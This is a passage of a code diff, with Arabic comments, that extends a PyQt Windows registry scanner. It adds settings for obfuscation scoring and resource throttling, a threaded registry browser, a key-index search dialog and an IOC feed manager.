+                # فحص مشترك: {"kw": ..., "rules": ...} بدل قائمة واحدة
+                results = route_combined_results(results, routes)
             self.finished.emit(results, counter[0])
         except Exception as e:
+            if not self.crit.asep:
+                self._write_checkpoint()
             self.error.emit(str(e))
+        finally:
+            self._close_parent_handles()
+            if self._offline is not None:
+                self._offline.unmount()
+            if self._governor:
+                set_background_priority(False)
 
 # ================ كارد تجميلي (بدون طي) ================
 class Card(QFrame):
@@ -972,6 +5837,10 @@ class SettingsDialog(QDialog):
         self.theme_combo.setCurrentIndex(theme_index_map.get(theme_key,0))
         g.addWidget(QLabel(tr("config_lang")), 0,0); g.addWidget(self.lang_combo, 0,1)
         g.addWidget(QLabel(tr("config_theme")), 1,0); g.addWidget(self.theme_combo, 1,1)
+        self.history_enabled = QCheckBox(tr("config_history")); self.history_enabled.setChecked(bool(self.cfg.get("history_enabled", True)))
+        g.addWidget(self.history_enabled, 2,0,1,2)
+        self.key_index_enabled = QCheckBox(tr("config_key_index")); self.key_index_enabled.setChecked(bool(self.cfg.get("key_index", True)))
+        g.addWidget(self.key_index_enabled, 3,0,1,2)
 
         # فلاتر ثانوية
         grp_filters = QGroupBox(tr("inputs"))
@@ -1002,6 +5871,58 @@ class SettingsDialog(QDialog):
         f.addWidget(QLabel(tr("config_value_type")), 0,0); f.addWidget(self.vtype_combo, 0,1)
         f.addWidget(self.use_age, 1,0); f.addWidget(QLabel(tr("config_age")), 1,1); f.addWidget(self.days_spin, 1,2)
         f.addWidget(QLabel(tr("config_accounts")), 2,0); f.addWidget(self.accounts_combo, 2,1,1,2)
+        self.obfuscation = QCheckBox(tr("config_obf")); self.obfuscation.setChecked(bool(self.cfg.get("obfuscation", False)))
+        self.obfuscation.setToolTip(tr("config_obf_tip") if HAVE_NUMPY else tr("need_numpy"))
+        self.obfuscation.setEnabled(HAVE_NUMPY)
+        self.obf_threshold_spin = QSpinBox(); self.obf_threshold_spin.setRange(1, 100)
+        self.obf_threshold_spin.setValue(int(self.cfg.get("obf_threshold", OBF_THRESHOLD_DEFAULT)))
+        f.addWidget(self.obfuscation, 3,0); f.addWidget(QLabel(tr("config_obf_threshold")), 3,1); f.addWidget(self.obf_threshold_spin, 3,2)
+
+        # منظّم الموارد
+        grp_gov = QGroupBox(tr("config_governor"))
+        gv = QGridLayout(grp_gov)
+        gv.setHorizontalSpacing(8); gv.setVerticalSpacing(6)
+        self.low_impact = QCheckBox(tr("config_low_impact")); self.low_impact.setChecked(bool(self.cfg.get("low_impact", False)))
+        self.rate_spin = QSpinBox(); self.rate_spin.setRange(0, 100000); self.rate_spin.setValue(int(self.cfg.get("target_rate", 200)))
+        self.cpu_spin = QSpinBox(); self.cpu_spin.setRange(5, 100); self.cpu_spin.setSuffix("%"); self.cpu_spin.setValue(int(self.cfg.get("cpu_share", 25)))
+        gv.addWidget(self.low_impact, 0,0,1,2)
+        gv.addWidget(QLabel(tr("config_target_rate")), 1,0); gv.addWidget(self.rate_spin, 1,1)
+        gv.addWidget(QLabel(tr("config_cpu_share")), 2,0); gv.addWidget(self.cpu_spin, 2,1)
+        self.open_relative = QCheckBox(tr("config_open_relative")); self.open_relative.setChecked(bool(self.cfg.get("open_relative", True)))
+        gv.addWidget(self.open_relative, 3,0,1,2)
+        self.snapshot_ttl_spin = QSpinBox(); self.snapshot_ttl_spin.setRange(0, 3600); self.snapshot_ttl_spin.setSuffix(" s")
+        self.snapshot_ttl_spin.setValue(int(self.cfg.get("snapshot_ttl", SNAPSHOT_TTL_DEFAULT)))
+        self.snapshot_ttl_spin.setToolTip(tr("config_snapshot_ttl_tip"))
+        gv.addWidget(QLabel(tr("config_snapshot_ttl")), 4,0); gv.addWidget(self.snapshot_ttl_spin, 4,1)
+        self.offline_hives = QCheckBox(tr("config_offline_hives")); self.offline_hives.setChecked(bool(self.cfg.get("offline_hives", False)))
+        self.offline_hives.setToolTip(tr("config_offline_hives_tip"))
+        self.offline_hives.setEnabled(HAVE_PYWIN32)
+        gv.addWidget(self.offline_hives, 5,0,1,2)
+
+        # خط الأساس المعروف السليم
+        grp_baseline = QGroupBox(tr("config_baseline"))
+        bl = QGridLayout(grp_baseline)
+        bl.setHorizontalSpacing(8); bl.setVerticalSpacing(6)
+        self.baseline_mode = QComboBox(); self.baseline_mode.addItems(tr("baseline_modes"))
+        mode = self.cfg.get("baseline_mode", "off")
+        self.baseline_mode.setCurrentIndex(BASELINE_MODES.index(mode) if mode in BASELINE_MODES else 0)
+        self.baseline_path = QLineEdit(self.cfg.get("baseline_path", ""))
+        self.btn_baseline_browse = QPushButton(tr("browse")); self.btn_baseline_browse.setIcon(icon_for_action("browse"))
+        self.btn_baseline_build = QPushButton(tr("baseline_build")); self.btn_baseline_build.setToolTip(tr("baseline_build_tip"))
+        bl.addWidget(QLabel(tr("config_baseline_mode")), 0,0); bl.addWidget(self.baseline_mode, 0,1,1,2)
+        bl.addWidget(QLabel(tr("config_baseline_file")), 1,0); bl.addWidget(self.baseline_path, 1,1); bl.addWidget(self.btn_baseline_browse, 1,2)
+        bl.addWidget(self.btn_baseline_build, 2,1,1,2)
+
+        # حدود الفحص (إنهاء مبكر)
+        grp_limits = QGroupBox(tr("config_limits"))
+        lm = QGridLayout(grp_limits)
+        lm.setHorizontalSpacing(8); lm.setVerticalSpacing(6)
+        self.max_matches_spin = QSpinBox(); self.max_matches_spin.setRange(0, 1000000); self.max_matches_spin.setValue(int(self.cfg.get("max_matches", 0)))
+        self.top_n_spin = QSpinBox(); self.top_n_spin.setRange(0, 100000); self.top_n_spin.setValue(int(self.cfg.get("top_n", 0)))
+        self.stop_first = QCheckBox(tr("config_stop_first")); self.stop_first.setChecked(bool(self.cfg.get("stop_on_first", False)))
+        lm.addWidget(QLabel(tr("config_max_matches")), 0,0); lm.addWidget(self.max_matches_spin, 0,1)
+        lm.addWidget(QLabel(tr("config_top_n")), 1,0); lm.addWidget(self.top_n_spin, 1,1)
+        lm.addWidget(self.stop_first, 2,0,1,2)
 
         # نسخ احتياطي
         grp_backup = QGroupBox(tr("config_backup"))
@@ -1012,6 +5933,9 @@ class SettingsDialog(QDialog):
 
         lay.addWidget(grp_general)
         lay.addWidget(grp_filters)
+        lay.addWidget(grp_gov)
+        lay.addWidget(grp_baseline)
+        lay.addWidget(grp_limits)
         lay.addWidget(grp_backup)
 
         self.buttons = QDialogButtonBox(QDialogButtonBox.Save | QDialogButtonBox.Cancel)
@@ -1023,6 +5947,21 @@ class SettingsDialog(QDialog):
         self.buttons.rejected.connect(self.reject)
         self.btn_backup_create.clicked.connect(self._do_backup)
         self.btn_backup_restore.clicked.connect(self._do_restore)
+        self.btn_baseline_browse.clicked.connect(self._browse_baseline)
+        self.btn_baseline_build.clicked.connect(self._build_baseline)
+
+    def _browse_baseline(self):
+        start = self.baseline_path.text() or str(BASELINE_DIR)
+        fname, _ = QFileDialog.getOpenFileName(self, tr("config_baseline"), start, "Baseline (*.ntrebl);;All (*)")
+        if fname:
+            self.baseline_path.setText(fname)
+            if self.baseline_mode.currentIndex() == 0:
+                self.baseline_mode.setCurrentIndex(1)
+
+    def _build_baseline(self):
+        path = self.parent()._build_baseline_from_results()
+        if path:
+            self.baseline_path.setText(path)
 
     def _fill_accounts_combo(self):
         items = [
@@ -1055,6 +5994,21 @@ class SettingsDialog(QDialog):
             "use_age": self.use_age.isChecked(),
             "days": self.days_spin.value(),
             "owner_filter": owner_filter_map.get(self.accounts_combo.currentIndex(), "all"),
+            "low_impact": self.low_impact.isChecked(),
+            "target_rate": self.rate_spin.value(),
+            "cpu_share": self.cpu_spin.value(),
+            "open_relative": self.open_relative.isChecked(),
+            "max_matches": self.max_matches_spin.value(),
+            "stop_on_first": self.stop_first.isChecked(),
+            "top_n": self.top_n_spin.value(),
+            "history_enabled": self.history_enabled.isChecked(),
+            "key_index": self.key_index_enabled.isChecked(),
+            "snapshot_ttl": self.snapshot_ttl_spin.value(),
+            "offline_hives": self.offline_hives.isChecked(),
+            "baseline_mode": BASELINE_MODES[self.baseline_mode.currentIndex()],
+            "baseline_path": self.baseline_path.text().strip(),
+            "obfuscation": self.obfuscation.isChecked(),
+            "obf_threshold": self.obf_threshold_spin.value(),
         }
 
     def _do_backup(self):
@@ -1096,6 +6050,22 @@ class SettingsDialog(QDialog):
             self.vtype_combo.setCurrentIndex({"all":0,"string":1,"expandstring":2,"multistring":3,"dword":4,"qword":5,"binary":6}.get(vt,0))
             self.use_age.setChecked(bool(cfg.get("use_age", False)))
             self.days_spin.setValue(int(cfg.get("days",7)))
+            self.low_impact.setChecked(bool(cfg.get("low_impact", False)))
+            self.rate_spin.setValue(int(cfg.get("target_rate", 200)))
+            self.cpu_spin.setValue(int(cfg.get("cpu_share", 25)))
+            self.open_relative.setChecked(bool(cfg.get("open_relative", True)))
+            self.max_matches_spin.setValue(int(cfg.get("max_matches", 0)))
+            self.stop_first.setChecked(bool(cfg.get("stop_on_first", False)))
+            self.top_n_spin.setValue(int(cfg.get("top_n", 0)))
+            self.history_enabled.setChecked(bool(cfg.get("history_enabled", True)))
+            self.key_index_enabled.setChecked(bool(cfg.get("key_index", True)))
+            self.snapshot_ttl_spin.setValue(int(cfg.get("snapshot_ttl", SNAPSHOT_TTL_DEFAULT)))
+            self.offline_hives.setChecked(bool(cfg.get("offline_hives", False)))
+            mode = cfg.get("baseline_mode", "off")
+            self.baseline_mode.setCurrentIndex(BASELINE_MODES.index(mode) if mode in BASELINE_MODES else 0)
+            self.baseline_path.setText(cfg.get("baseline_path", ""))
+            self.obfuscation.setChecked(bool(cfg.get("obfuscation", False)) and HAVE_NUMPY)
+            self.obf_threshold_spin.setValue(int(cfg.get("obf_threshold", OBF_THRESHOLD_DEFAULT)))
 
             # استرجاع عامل فلترة المالك
             self._fill_accounts_combo()
@@ -1103,13 +6073,110 @@ class SettingsDialog(QDialog):
             owner_index_map = {"all":0, "systems":1, "localsystem":2, "users":3}
             self.accounts_combo.setCurrentIndex(owner_index_map.get(owner_filter, 0))
 
-            self.parent()._restore_lists_and_rules(lists, rules)
-            QMessageBox.information(self, tr("settings_title"), tr("loaded"))
-        except Exception as e:
-            QMessageBox.warning(self, tr("settings_title"), str(e))
+            self.parent()._restore_lists_and_rules(lists, rules)
+            QMessageBox.information(self, tr("settings_title"), tr("loaded"))
+        except Exception as e:
+            QMessageBox.warning(self, tr("settings_title"), str(e))
+
+# ================ مستعرض السجل (اختيار متعدد) ================
+BROWSER_CHUNK = 256        # أبناء تُضاف للشجرة في كل دفعة من المحمّل الخلفي
+SUBKEY_CACHE_KEYS = 512    # قوائم أبناء مخبأة (LRU) تُتحقق بوقت آخر كتابة وعدد الأبناء
+SUBKEY_CACHE: Dict[Tuple[int, str], Tuple[Optional[int], int, List[str]]] = {}
+BROWSER_PLACEHOLDER_LOADING = "(loading)..."
+
+def iter_subkey_chunks(hive: int, subkey: str, size: int = BROWSER_CHUNK):
+    """
+    يُعيد أسماء أبناء المفتاح دفعات بحجم size. القائمة المخبأة تُستخدم ما دام وقت آخر كتابة وعدد الأبناء
+    لم يتغيرا (إنشاء/حذف ابن يُحدّث وقت الأب)، فإعادة فتح CLSID تكلف OpenKey وQueryInfoKey فقط.
+    يرفع PermissionError إن تعذّر فتح المفتاح بكل الأعلام.
+    """
+    flags = [winreg.KEY_READ]
+    if hasattr(winreg, "KEY_WOW64_64KEY"):
+        flags += [winreg.KEY_READ | winreg.KEY_WOW64_64KEY, winreg.KEY_READ | winreg.KEY_WOW64_32KEY]
+    opened = None
+    for flg in flags:
+        try:
+            opened = winreg.OpenKey(hive, subkey, 0, flg)
+            break
+        except Exception:
+            continue
+    if opened is None:
+        raise PermissionError(format_key_path(hive, subkey))
+    try:
+        try:
+            info = winreg.QueryInfoKey(opened)
+            count, last_write = info[0], info[2]
+        except Exception:
+            count, last_write = 0, None
+        ck = (hive, subkey.lower())
+        hit = SUBKEY_CACHE.pop(ck, None)
+        if hit is not None and last_write is not None and hit[0] == last_write and hit[1] == count:
+            SUBKEY_CACHE[ck] = hit
+            names = hit[2]
+            for i in range(0, len(names), size):
+                yield names[i:i + size]
+            return
+        names, chunk = [], []
+        for i in range(count):
+            try:
+                chunk.append(winreg.EnumKey(opened, i))
+            except Exception:
+                continue
+            if len(chunk) >= size:
+                names.extend(chunk)
+                yield chunk
+                chunk = []
+        if chunk:
+            names.extend(chunk)
+            yield chunk
+        if len(SUBKEY_CACHE) >= SUBKEY_CACHE_KEYS:
+            SUBKEY_CACHE.pop(next(iter(SUBKEY_CACHE)))
+        SUBKEY_CACHE[ck] = (last_write, count, names)
+    finally:
+        try:
+            winreg.CloseKey(opened)
+        except Exception:
+            pass
+
+class SubkeyLoader(QThread):
+    """خيط واحد لكل مستعرض يعدّد الأبناء بالترتيب الذي طُلبت به ويرسلها دفعات إلى خيط الواجهة."""
+    chunk = pyqtSignal(str, object, bool)   # المسار، أسماء، اكتمل
+    failed = pyqtSignal(str, str)           # المسار، نص العنصر البديل
+
+    def __init__(self, parent=None):
+        super().__init__(parent)
+        self._queue: "queue.Queue[Optional[str]]" = queue.Queue()
+        self._stop = False
+
+    def request(self, path: str):
+        self._queue.put(path)
+
+    def stop(self):
+        self._stop = True
+        self._queue.put(None)
+
+    def run(self):
+        while not self._stop:
+            path = self._queue.get()
+            if path is None:
+                return
+            hive, subkey = parse_registry_path(path)
+            if hive is None:
+                self.failed.emit(path, "[Error]")
+                continue
+            try:
+                for names in iter_subkey_chunks(hive, subkey.strip("\\")):
+                    if self._stop:
+                        return
+                    self.chunk.emit(path, names, False)
+                self.chunk.emit(path, [], True)
+            except PermissionError:
+                self.failed.emit(path, "[Access Denied]")
+            except Exception:
+                self.failed.emit(path, "[Error]")
 
-# ================ مستعرض السجل (اختيار متعدد) ================
 class RegistryBrowserDialog(QDialog):
+    # حالة العنصر في Qt.UserRole: unloaded | loading | loaded | partial (فُتح مسار مباشر دون إخوته)
     def __init__(self, parent=None):
         super().__init__(parent)
         self.setWindowTitle(tr("browse_registry_title"))
@@ -1120,6 +6187,11 @@ class RegistryBrowserDialog(QDialog):
         self.tree.setHeaderLabels([ "Name", "Path" ] if LANG=="en" else ["الاسم","المسار"])
         self.tree.setSelectionMode(QAbstractItemView.ExtendedSelection)
         self.tree.setColumnWidth(0, 320)
+        # انتقال مباشر إلى مسار مكتوب مع إكمال تلقائي من فهرس المفاتيح
+        self.goto_edit = QLineEdit(); self.goto_edit.setPlaceholderText(tr("browser_goto_hint"))
+        attach_key_completer(self.goto_edit)
+        self.goto_edit.returnPressed.connect(lambda: self.go_to_path(self.goto_edit.text()))
+        v.addWidget(self.goto_edit)
         v.addWidget(self.tree)
 
         btns = QDialogButtonBox(QDialogButtonBox.Ok | QDialogButtonBox.Cancel)
@@ -1129,59 +6201,119 @@ class RegistryBrowserDialog(QDialog):
         btns.rejected.connect(self.reject)
         v.addWidget(btns)
 
+        # التعداد في خيط خلفي: التوسيع لا يجمّد الواجهة والأبناء تظهر دفعات
+        self._loading: Dict[str, Tuple[QTreeWidgetItem, Set[str]]] = {}
+        self._loader = SubkeyLoader(self)
+        self._loader.chunk.connect(self._on_chunk)
+        self._loader.failed.connect(self._on_failed)
+        self._loader.start()
+
         self.tree.itemExpanded.connect(self._on_expand)
+        self.tree.itemClicked.connect(self._on_item_clicked)
         self._populate_roots()
         self.selected_paths: List[str] = []
 
+    def _make_item(self, name: str, path: str) -> QTreeWidgetItem:
+        item = QTreeWidgetItem([name, path])
+        item.setData(0, Qt.UserRole, "unloaded")
+        item.addChild(QTreeWidgetItem([BROWSER_PLACEHOLDER_LOADING, ""]))
+        return item
+
     def _populate_roots(self):
         for name in ["HKLM","HKCU","HKCR","HKU","HKCC"]:
-            item = QTreeWidgetItem([name, name])
-            item.setData(0, Qt.UserRole, name)
-            item.addChild(QTreeWidgetItem(["(loading)...",""]))
-            self.tree.addTopLevelItem(item)
+            self.tree.addTopLevelItem(self._make_item(name, name))
+
+    @staticmethod
+    def _drop_placeholders(item: QTreeWidgetItem):
+        # العناصر البديلة (تحميل/المزيد/مرفوض) بلا مسار في العمود الثاني
+        for i in reversed(range(item.childCount())):
+            if not item.child(i).text(1):
+                item.removeChild(item.child(i))
 
     def _on_expand(self, item: QTreeWidgetItem):
-        if item.childCount()==1 and item.child(0).text(0).startswith("("):
-            item.removeChild(item.child(0))
-            full = item.text(1)
-            try:
-                h, subkey = parse_registry_path(full)
-                if h is None: return
-                access = winreg.KEY_READ
-                flags = [access]
-                if hasattr(winreg,"KEY_WOW64_64KEY"):
-                    flags += [access|winreg.KEY_WOW64_64KEY, access|winreg.KEY_WOW64_32KEY]
-                opened = None
-                for flg in flags:
-                    try:
-                        opened = winreg.OpenKey(h, subkey, 0, flg)
-                        break
-                    except Exception:
-                        continue
-                if opened is None:
-                    item.addChild(QTreeWidgetItem(["[Access Denied]",""]))
-                    return
-                try:
-                    count = winreg.QueryInfoKey(opened)[0]
-                except Exception:
-                    count = 0
-                for i in range(count):
-                    try:
-                        name = winreg.EnumKey(opened, i)
-                        child_path = full + ("\\" if subkey or full else "\\") + name
-                        ch = QTreeWidgetItem([name, child_path])
-                        ch.addChild(QTreeWidgetItem(["(loading)...",""]))
-                        item.addChild(ch)
-                    except Exception:
-                        continue
-                try:
-                    winreg.CloseKey(opened)
-                except Exception:
-                    pass
-            except PermissionError:
-                item.addChild(QTreeWidgetItem(["[Access Denied]",""]))
-            except Exception:
-                item.addChild(QTreeWidgetItem(["[Error]",""]))
+        if item.data(0, Qt.UserRole) in ("unloaded", "partial"):
+            self._load(item)
+
+    def _on_item_clicked(self, item: QTreeWidgetItem, column: int):
+        if item.data(0, Qt.UserRole) == "more" and item.parent() is not None:
+            self._load(item.parent())
+
+    def _load(self, item: QTreeWidgetItem):
+        path = item.text(1)
+        self._drop_placeholders(item)
+        # بعد انتقال مباشر يكون بعض الأبناء موجوداً: لا يُكرر عند وصول القائمة الكاملة
+        existing = {item.child(i).text(0).lower() for i in range(item.childCount())}
+        item.insertChild(0, QTreeWidgetItem([BROWSER_PLACEHOLDER_LOADING, ""]))
+        item.setData(0, Qt.UserRole, "loading")
+        self._loading[path.lower()] = (item, existing)
+        self._loader.request(path)
+
+    def _on_chunk(self, path: str, names: List[str], done: bool):
+        entry = self._loading.get(path.lower())
+        if entry is None:
+            return
+        item, existing = entry
+        new_items = [self._make_item(n, f"{path}\\{n}") for n in names if not existing or n.lower() not in existing]
+        if new_items:
+            item.addChildren(new_items)
+        if done:
+            self._loading.pop(path.lower(), None)
+            if item.childCount() and not item.child(0).text(1):
+                item.removeChild(item.child(0))
+            item.setData(0, Qt.UserRole, "loaded")
+
+    def _on_failed(self, path: str, text: str):
+        entry = self._loading.pop(path.lower(), None)
+        if entry is None:
+            return
+        item = entry[0]
+        self._drop_placeholders(item)
+        item.addChild(QTreeWidgetItem([text, ""]))
+        item.setData(0, Qt.UserRole, "loaded")
+
+    def go_to_path(self, path: str):
+        """
+        ينتقل إلى مسار عميق بإنشاء عناصر المسار فقط: الآباء غير المحمّلة تصبح partial مع عنصر "المزيد"
+        يحمّل إخوتها عند الطلب، فلا يُعدَّد HKCR أو CLSID كاملاً للوصول إلى مفتاح واحد.
+        """
+        parts = [p for p in path.split("\\") if p]
+        if not parts:
+            return
+        current = None
+        for i in range(self.tree.topLevelItemCount()):
+            if self.tree.topLevelItem(i).text(0).lower() == parts[0].lower():
+                current = self.tree.topLevelItem(i); break
+        if current is None:
+            return
+        # التوسيع هنا لا يجب أن يطلق تحميل الإخوة
+        self.tree.blockSignals(True)
+        try:
+            for part in parts[1:]:
+                child = None
+                for i in range(current.childCount()):
+                    if current.child(i).text(1) and current.child(i).text(0).lower() == part.lower():
+                        child = current.child(i); break
+                if child is None:
+                    child = self._make_item(part, f"{current.text(1)}\\{part}")
+                    if current.data(0, Qt.UserRole) == "unloaded":
+                        self._drop_placeholders(current)
+                        more = QTreeWidgetItem([tr("browser_more"), ""])
+                        more.setData(0, Qt.UserRole, "more")
+                        current.addChild(more)
+                        current.setData(0, Qt.UserRole, "partial")
+                    current.insertChild(max(0, current.childCount() - 1) if current.data(0, Qt.UserRole) == "partial"
+                                        else current.childCount(), child)
+                current.setExpanded(True)
+                current = child
+        finally:
+            self.tree.blockSignals(False)
+        self.tree.setCurrentItem(current)
+        self.tree.scrollToItem(current)
+
+    def done(self, r):
+        self._loader.stop()
+        self._loader.wait(2000)
+        super().done(r)
 
     def accept(self):
         self.selected_paths = []
@@ -1215,6 +6347,208 @@ class LabeledInputDialog(QDialog):
         ok = self.exec_() == QDialog.Accepted
         return self.edit.text(), ok
 
+# ================ حوار البحث في فهرس المفاتيح =================
+class KeySearchDialog(QDialog):
+    """بحث فوري في KeyPathIndex (داخل الاسم/اسم مطابق/بادئة مسار) واختيار نتائج متعددة كجذور فحص."""
+    def __init__(self, parent=None):
+        super().__init__(parent)
+        self.setWindowTitle(tr("find_keys_title"))
+        self.setWindowIcon(icon_for_action("filter"))
+        self.resize(760, 520)
+        v = QVBoxLayout(self)
+        row = QHBoxLayout()
+        self.edit = QLineEdit(); self.edit.setPlaceholderText(tr("find_keys_hint"))
+        self.mode_combo = QComboBox()
+        self.mode_combo.addItems([tr("key_index_contains"), tr("key_index_name"), tr("key_index_prefix")])
+        row.addWidget(self.edit, 1); row.addWidget(self.mode_combo)
+        v.addLayout(row)
+        self.results = QListWidget()
+        self.results.setSelectionMode(QAbstractItemView.ExtendedSelection)
+        v.addWidget(self.results, 1)
+        self.status_lbl = QLabel("")
+        v.addWidget(self.status_lbl)
+        btns = QDialogButtonBox(QDialogButtonBox.Ok | QDialogButtonBox.Cancel)
+        btns.button(QDialogButtonBox.Ok).setText(tr("ok"))
+        btns.button(QDialogButtonBox.Cancel).setText(tr("cancel"))
+        btns.accepted.connect(self.accept)
+        btns.rejected.connect(self.reject)
+        v.addWidget(btns)
+        self.selected_paths: List[str] = []
+
+        # تأخير قصير يجمع ضغطات المفاتيح المتتالية في استعلام واحد
+        self._timer = QTimer(self); self._timer.setSingleShot(True); self._timer.setInterval(150)
+        self._timer.timeout.connect(self._run_search)
+        self.edit.textChanged.connect(lambda _: self._timer.start())
+        self.mode_combo.currentIndexChanged.connect(lambda _: self._timer.start())
+        self.results.itemDoubleClicked.connect(lambda _: self.accept())
+        self._show_status()
+
+    def _show_status(self, shown: Optional[int] = None):
+        try:
+            count, updated = key_index().info()
+        except Exception:
+            count, updated = 0, ""
+        if not count:
+            self.status_lbl.setText(tr("key_index_empty")); return
+        text = tr("key_index_status").format(count, updated or "-")
+        if shown is not None:
+            text += " | " + tr("key_index_shown").format(shown)
+        self.status_lbl.setText(text)
+
+    def _run_search(self):
+        mode = ("contains", "name", "prefix")[self.mode_combo.currentIndex()]
+        try:
+            paths = key_index().search(self.edit.text(), mode)
+        except Exception:
+            paths = []
+        self.results.clear()
+        self.results.addItems(paths)
+        self._show_status(len(paths))
+
+    def accept(self):
+        self.selected_paths = [it.text() for it in self.results.selectedItems()]
+        super().accept()
+
+# ================ حوار خلاصات مؤشرات الاختراق =================
+class IocFeedsDialog(QDialog):
+    """إدارة الخلاصات المستوردة: تفعيل/تعطيل، استيراد في الخلفية، وحذف. feeds = [{path, name, enabled}]."""
+    def __init__(self, feeds: List[Dict[str, Any]], parent=None):
+        super().__init__(parent)
+        self.setWindowTitle(tr("ioc_title"))
+        self.setWindowIcon(icon_for_action("filter"))
+        self.resize(760, 420)
+        self.feeds = [dict(f) for f in feeds]
+        v = QVBoxLayout(self)
+        self.table = QTableWidget(0, 4)
+        self.table.setHorizontalHeaderLabels(tr("ioc_headers"))
+        self.table.setEditTriggers(QAbstractItemView.NoEditTriggers)
+        self.table.setSelectionBehavior(QAbstractItemView.SelectRows)
+        self.table.horizontalHeader().setSectionResizeMode(QHeaderView.Stretch)
+        v.addWidget(self.table, 1)
+        row = QHBoxLayout()
+        self.btn_import = QPushButton(tr("ioc_import")); self.btn_import.setIcon(icon_for_action("file"))
+        self.btn_remove = QPushButton(tr("remove")); self.btn_remove.setIcon(icon_for_action("remove"))
+        row.addWidget(self.btn_import); row.addWidget(self.btn_remove); row.addStretch(1)
+        v.addLayout(row)
+        self.status_lbl = QLabel(tr("ioc_hint"))
+        self.status_lbl.setWordWrap(True)
+        v.addWidget(self.status_lbl)
+        btns = QDialogButtonBox(QDialogButtonBox.Ok | QDialogButtonBox.Cancel)
+        btns.button(QDialogButtonBox.Ok).setText(tr("ok"))
+        btns.button(QDialogButtonBox.Cancel).setText(tr("cancel"))
+        btns.accepted.connect(self.accept)
+        btns.rejected.connect(self.reject)
+        v.addWidget(btns)
+        self._buttons = btns
+        self._importer: Optional[IocImporter] = None
+        self.btn_import.clicked.connect(self._import)
+        self.btn_remove.clicked.connect(self._remove)
+        self._fill()
+
+    def _fill(self):
+        self.table.setRowCount(0)
+        for f in self.feeds:
+            r = self.table.rowCount(); self.table.insertRow(r)
+            chk = QTableWidgetItem(f.get("name", ""))
+            chk.setFlags(chk.flags() | Qt.ItemIsUserCheckable)
+            chk.setCheckState(Qt.Checked if f.get("enabled", True) else Qt.Unchecked)
+            self.table.setItem(r, 0, chk)
+            try:
+                meta = open_ioc_feed(f["path"]).meta
+                counts = ", ".join(f"{k}: {n}" for k, n in meta.get("counts", {}).items())
+                created = meta.get("created", "")
+            except Exception:
+                counts, created = tr("ioc_missing"), ""
+            self.table.setItem(r, 1, QTableWidgetItem(counts))
+            self.table.setItem(r, 2, QTableWidgetItem(created))
+            self.table.setItem(r, 3, QTableWidgetItem(f["path"]))
+
+    def _sync_enabled(self):
+        for r, f in enumerate(self.feeds):
+            it = self.table.item(r, 0)
+            if it is not None:
+                f["enabled"] = it.checkState() == Qt.Checked
+
+    def _import(self):
+        files, _ = QFileDialog.getOpenFileNames(self, tr("ioc_import"), str(Path.home()), "IOC (*.txt *.csv *.json);;All (*)")
+        if not files:
+            return
+        self._sync_enabled()
+        IOC_DIR.mkdir(parents=True, exist_ok=True)
+        name = Path(files[0]).stem if len(files) == 1 else f"{Path(files[0]).stem}+{len(files) - 1}"
+        safe = re.sub(r"[^\w.-]+", "_", name)
+        path = str(IOC_DIR / f"{safe}_{datetime.now().strftime('%Y%m%d_%H%M%S')}.ntreioc")
+        self.btn_import.setEnabled(False); self._buttons.setEnabled(False)
+        self.status_lbl.setText(tr("ioc_importing").format(len(files)))
+        self._importer = IocImporter(files, path, name)
+        self._importer.finished.connect(lambda counts, err: self._on_imported(path, name, counts, err))
+        self._importer.start(QThread.LowPriority)
+
+    def _on_imported(self, path: str, name: str, counts: Dict[str, int], err: str):
+        self.btn_import.setEnabled(True); self._buttons.setEnabled(True)
+        if err:
+            self.status_lbl.setText(err)
+            return
+        skipped = counts.pop("skipped", 0)
+        self.feeds.append({"path": path, "name": name, "enabled": True})
+        self._fill()
+        self.status_lbl.setText(tr("ioc_imported").format(sum(counts.values()), skipped))
+
+    def _remove(self):
+        rows = sorted({i.row() for i in self.table.selectedIndexes()}, reverse=True)
+        if not rows:
+            return
+        self._sync_enabled()
+        for r in rows:
+            f = self.feeds.pop(r)
+            cached = _IOC_FEEDS.pop(f["path"], None)
+            if cached is not None:
+                cached[1].close()
+            try:
+                os.unlink(f["path"])
+            except Exception:
+                pass
+        self._fill()
+
+    def accept(self):
+        self._sync_enabled()
+        super().accept()
+
+    def reject(self):
+        if self._importer and self._importer.isRunning():
+            return
+        super().reject()
+
+# ================ حوار خطة الفحص =================
+class ScanPlanDialog(QDialog):
+    def __init__(self, plan: ScanPlan, parent=None):
+        super().__init__(parent)
+        self.setWindowTitle(tr("plan_title"))
+        self.setWindowIcon(icon_for_action("scan"))
+        self.resize(760, 460)
+        v = QVBoxLayout(self)
+        v.addWidget(QLabel(tr("plan_units")))
+        tbl = QTableWidget(len(plan.units), 3)
+        tbl.setHorizontalHeaderLabels(tr("plan_headers"))
+        tbl.setEditTriggers(QAbstractItemView.NoEditTriggers)
+        tbl.horizontalHeader().setSectionResizeMode(QHeaderView.Stretch)
+        for i, u in enumerate(plan.units):
+            for c, val in enumerate([u.label, u.source, str(u.estimate)]):
+                tbl.setItem(i, c, QTableWidgetItem(val))
+        v.addWidget(tbl, 1)
+        if plan.dropped:
+            v.addWidget(QLabel(tr("plan_dropped")))
+            lst = QListWidget(); lst.setMaximumHeight(140)
+            for raw, owner in plan.dropped:
+                reason = tr("plan_covered_by").format(owner) if owner else tr("plan_invalid")
+                lst.addItem(QListWidgetItem(f"{raw}  —  {reason}"))
+            v.addWidget(lst)
+        btns = QDialogButtonBox(QDialogButtonBox.Ok | QDialogButtonBox.Cancel)
+        btns.button(QDialogButtonBox.Ok).setText(tr("scan"))
+        btns.button(QDialogButtonBox.Cancel).setText(tr("cancel"))
+        btns.accepted.connect(self.accept); btns.rejected.connect(self.reject)
+        v.addWidget(btns)
+
 # ================ حوار تفاصيل نتيجة =================
 class ResultDetailsDialog(QDialog):
     def __init__(self, item: Dict[str, Any], parent=None):
@@ -1235,11 +6569,25 @@ class ResultDetailsDialog(QDialog):
             ("Matched rule", item.get("matched_rule","")),
             ("Reasons", ", ".join(item.get("reasons",[]))),
         ]
+        if item.get("reg_file"):
+            fields.append(("Source file", item["reg_file"]))
+        if item.get("host"):
+            fields.insert(0, ("Host", item["host"]))
+        if item.get("user"):
+            fields.insert(fields.index(("Owner", item.get("owner",""))) + 1, ("User hive", item["user"]))
+        if item.get("asep"):
+            fields.insert(1, ("ASEP", item["asep"]))
+        if item.get("obf_score") not in (None, ""):
+            fields.append(("Obfuscation score", item["obf_score"]))
+        if item.get("artifacts"):
+            fields.append(("Artifacts", artifacts_text(item["artifacts"])))
         labels_map_ar = {
             "Key":"المفتاح", "Property":"الخاصية", "Value":"القيمة",
